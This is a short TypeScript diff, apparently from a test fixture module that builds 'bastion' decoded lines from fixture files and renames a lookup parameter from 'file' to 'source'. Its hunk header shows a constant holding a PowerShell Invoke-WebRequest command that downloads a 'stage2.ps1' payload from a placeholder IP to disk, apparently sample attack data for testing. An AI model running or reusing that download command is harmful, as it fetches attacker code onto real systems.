@@ -33,8 +33,8 @@ const COMMAND = "Invoke-WebRequest -Uri http://203.0.113.7/stage2.ps1 -OutFile C
 export const bastionLines: readonly DecodedLine[] = [...FILES.flatMap(linesOfFile), payloadLine()];
 
 /** Reads them back. */
-export const resolveBastion: ResolveLines = async (file, lines) =>
-  bastionLines.filter(({ row }) => row.file === file && lines.includes(row.line));
+export const resolveBastion: ResolveLines = async (source, lines) =>
+  bastionLines.filter(({ row }) => row.source === source && lines.includes(row.line));
 
 function linesOfFile(file: string): readonly DecodedLine[] {
   const text = readFileSync(new URL(`../../../fixtures/bastion/${file}`, import.meta.url), "utf8");
